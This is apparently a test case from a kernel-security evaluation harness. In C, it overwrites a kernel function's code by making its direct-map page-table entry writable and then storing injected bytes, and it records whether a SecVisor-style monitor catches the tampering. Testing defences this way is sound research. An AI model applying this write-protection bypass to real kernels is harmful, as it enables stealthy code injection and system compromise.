// Row 3. Kernel text written through the direct map, whose entry is made writable first.
// Source: ret2dir in reverse; PT-Rand motivation (Davi et al. 2017).
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"

ATTACK("text-direct-map")
{
	u64 at = symbol(VICTIM);
	u8 approved[CODE_LENGTH];
	long before = victim();

	kread(at, approved, sizeof(approved));
	keep_bytes(at, sizeof(approved));
	u64 alias = direct(physical(at)), entry, value;

	entry = entry_of(alias, &value, 0);
	poke(entry, value | WRITABLE);
	flush(0);
	operate(VULNERABLE_STORE, alias, *(const u64 *)CODE, 8);
	operate(VULNERABLE_STORE, alias + 8, *(const u16 *)(CODE + 8), 2);
	judge_victim(before, approved, "through the direct map");
}
